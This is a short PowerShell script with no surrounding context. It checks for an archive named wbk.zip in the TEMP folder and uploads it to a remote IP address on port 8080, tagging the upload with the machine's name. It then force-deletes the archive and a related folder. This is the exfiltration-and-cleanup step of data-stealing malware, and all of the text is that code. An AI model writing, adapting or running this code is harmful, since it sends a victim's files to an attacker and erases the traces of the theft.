$f = "$env:TEMP\wbk.zip"
if (Test-Path $f) {
  Invoke-RestMethod -Uri "http://198.51.100.23:8080/up?h=$env:COMPUTERNAME" -Method Post -InFile $f -ContentType "application/octet-stream"
  Remove-Item $f -Force; Remove-Item "$env:TEMP\wbk" -Recurse -Force
}
